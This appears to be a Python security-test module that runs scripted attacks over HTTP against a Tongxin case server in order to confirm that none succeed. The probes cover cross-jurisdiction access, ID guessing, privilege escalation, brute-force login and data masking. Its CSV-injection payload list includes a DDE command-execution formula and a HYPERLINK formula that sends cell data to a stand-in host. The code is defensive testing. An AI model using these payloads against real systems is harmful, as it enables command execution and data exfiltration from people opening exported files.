"""Scripted attacks against a running Tongxin server, over real HTTP.

Shared by scripts/security_run.py (against `tongxin serve` with the demo district) and the
fast pytest wrapper (against pytest-django's live server). Each probe is one attempt; an
attempt "got in" when the server let it do or read what it must not. The run passes only
with zero.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass, field

import pyotp
import requests

TRIGGERS = ("=", "+", "-", "@")
PAYLOADS = ["=cmd|' /C calc'!A0", "+SUM(1,1)", "-1+1", "@SUM(A1)",
            '=HYPERLINK("http://evil.example/?"&A1,"x")']


@dataclass
class Tally:
    attempts: dict[str, int] = field(default_factory=dict)
    got_in: list[str] = field(default_factory=list)

    def attempt(self, kind: str, label: str, success: bool) -> None:
        self.attempts[kind] = self.attempts.get(kind, 0) + 1
        if success:
            self.got_in.append(f"{kind}: {label}")

    @property
    def total(self) -> int:
        return sum(self.attempts.values())


class Server:
    def __init__(self, base: str):
        self.base = base.rstrip("/")

    def api(self, token: str | None) -> requests.Session:
        s = requests.Session()
        if token:
            s.headers["Authorization"] = f"Bearer {token}"
        return s

    def login(self, username: str, password: str) -> requests.Session:
        """A browser-like session; passes the TOTP step when the account is asked for it
        the first time (the setup page shows the secret, as it would to its owner)."""
        s = requests.Session()
        s.get(f"{self.base}/login/")
        r = s.post(f"{self.base}/login/", data={
            "username": username, "password": password,
            "csrfmiddlewaretoken": s.cookies.get("csrftoken", "")},
            headers={"Referer": f"{self.base}/login/"})
        if "/security/totp/" in r.url:
            secret = re.search(r'data-testid="totp-secret">([A-Z2-7]+)<', r.text)
            if secret:
                self.post(s, "/security/totp/", {"code": pyotp.TOTP(secret.group(1)).now()})
        return s

    def post(self, s: requests.Session, path: str, data: dict) -> requests.Response:
        return s.post(f"{self.base}{path}", data={
            **data, "csrfmiddlewaretoken": s.cookies.get("csrftoken", "")},
            headers={"Referer": f"{self.base}{path}"}, allow_redirects=False)

    def get(self, s: requests.Session, path: str, **params) -> requests.Response:
        return s.get(f"{self.base}{path}", params=params, allow_redirects=False)


def all_cases(server: Server, token: str) -> list[dict]:
    """Every case the district dispatcher sees: the ground truth for the other probes."""
    api, items, cursor = server.api(token), [], None
    while True:
        r = api.get(f"{server.base}/api/v1/cases", params={"limit": 100, **(
            {"cursor": cursor} if cursor else {})})
        r.raise_for_status()
        page = r.json()
        items += page["items"]
        cursor = page.get("next_cursor")
        if not cursor:
            return items


def cross_jurisdiction(server: Server, tally: Tally, *, token: str, session, street_code: str,
                       cases: list[dict], limit: int = 40) -> None:
    outside = [c for c in cases if (c.get("street") or {}).get("code") != street_code][:limit]
    api = server.api(token)
    for c in outside:
        for path in (f"/api/v1/cases/{c['id']}", f"/api/v1/cases/{c['id']}/actions"):
            r = api.get(server.base + path)
            tally.attempt("cross-jurisdiction read", path, r.status_code == 200)
        r = api.post(f"{server.base}/api/v1/cases/{c['id']}/actions/register", json={})
        tally.attempt("cross-jurisdiction act", f"register {c['id']}", r.ok)
        r = server.get(session, f"/cases/{c['id']}/")
        tally.attempt("cross-jurisdiction read", f"page /cases/{c['id']}/", r.status_code == 200)


def id_guessing(server: Server, tally: Tally, *, token: str, cases: list[dict],
                extra: int = 30) -> None:
    api = server.api(token)
    mine = set()
    cursor = None
    while True:
        r = api.get(f"{server.base}/api/v1/cases", params={"limit": 100, **(
            {"cursor": cursor} if cursor else {})}).json()
        mine |= {c["id"] for c in r["items"]}
        cursor = r.get("next_cursor")
        if not cursor:
            break
    top = max([c["id"] for c in cases] + [1])
    for guess in range(1, top + extra):
        if guess in mine:
            continue
        r = api.get(f"{server.base}/api/v1/cases/{guess}")
        tally.attempt("ID guessing", f"case {guess}", r.status_code == 200)
        r = api.get(f"{server.base}/api/v1/attachments/{guess}")
        tally.attempt("ID guessing", f"attachment {guess}", r.status_code == 200)


def privilege_escalation(server: Server, tally: Tally, *, handler_session, handler_token: str,
                         handler_user_id: int, own_case: int, secadmin_session,
                         secadmin_user_id: int, region_id: int) -> None:
    h = handler_session
    checks = [
        ("handler opens the audit log", server.get(h, "/security/audit/"), 200),
        ("handler exports the audit log", server.get(h, "/security/audit/export.csv"), 200),
        ("handler exports cases", server.get(h, "/cases/export.csv"), 200),
        ("handler reveals a reporter", server.post(h, f"/cases/{own_case}/reveal/", {}), 200),
        ("handler opens the back office", server.get(h, "/admin/accounts/membership/"), 200),
    ]
    r = server.post(h, "/admin/accounts/membership/add/",
                    {"user": handler_user_id, "role": "dispatcher", "region": region_id})
    checks.append(("handler grants itself dispatcher", r, 302))
    api = server.api(handler_token)
    r = api.post(f"{server.base}/api/v1/cases/{own_case}/actions/dispatch",
                 json={"lead_department": "x"})
    checks.append(("handler dispatches", r, 200))
    r = server.api(None).get(f"{server.base}/api/v1/cases")
    checks.append(("no token lists cases", r, 200))
    r = server.api("forged-token-0000").get(f"{server.base}/api/v1/cases")
    checks.append(("forged token lists cases", r, 200))
    r = server.post(secadmin_session, "/admin/accounts/membership/add/",
                    {"user": secadmin_user_id, "role": "auditadmin", "region": region_id})
    checks.append(("security admin grants itself audit admin", r, 302))
    r = server.get(secadmin_session, "/security/audit/")
    checks.append(("security admin reads the audit log", r, 200))
    for label, response, success_code in checks:
        if success_code == 302:  # an admin add succeeds by redirecting to the list
            success = response.headers.get("Location", "").endswith("/admin/accounts/membership/")
        else:
            success = response.status_code == success_code
        tally.attempt("privilege escalation", label, success)


def csv_injection(server: Server, tally: Tally, *, operator_token: str, dispatcher_session,
                  region_code: str) -> None:
    api = server.api(operator_token)
    for payload in PAYLOADS:
        api.post(f"{server.base}/api/v1/cases", json={
            "title": payload, "description": payload, "region": region_code,
            "reporter_name": payload[:50]})
    r = server.get(dispatcher_session, "/cases/export.csv", queue="all")
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig")))) if r.ok else []
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        live = [c for c in cells if c.startswith(TRIGGERS) and payload[1:] in c]
        present = any(payload[1:] in c for c in cells)
        tally.attempt("CSV/formula injection", payload, bool(live) or not present)


def masking(server: Server, tally: Tally, *, handler_token: str, phone: str,
            cases: list[dict]) -> None:
    """`cases`: cases the handler may read; none may show a full phone or ID number."""
    api = server.api(handler_token)
    full = re.compile(r'"reporter_(phone|id_number)":\s*"\+?\d{11,18}"')
    for c in cases[:40]:
        r = api.get(f"{server.base}/api/v1/cases/{c['id']}")
        tally.attempt("personal data unmasked", f"case {c['id']}",
                      r.status_code != 200 or phone in r.text or bool(full.search(r.text)))
    r = api.get(f"{server.base}/api/v1/cases", params={"limit": 100})
    tally.attempt("personal data unmasked", "list", phone in r.text or bool(full.search(r.text)))


def brute_force(server: Server, tally: Tally, *, username: str, password: str,
                tries: int = 8) -> None:
    for i in range(tries):
        server.login(username, f"guess-{i}")
    s = server.login(username, password)
    r = server.get(s, "/cases/")
    tally.attempt("password guessing", f"{username} after {tries} failures",
                  r.status_code == 200)
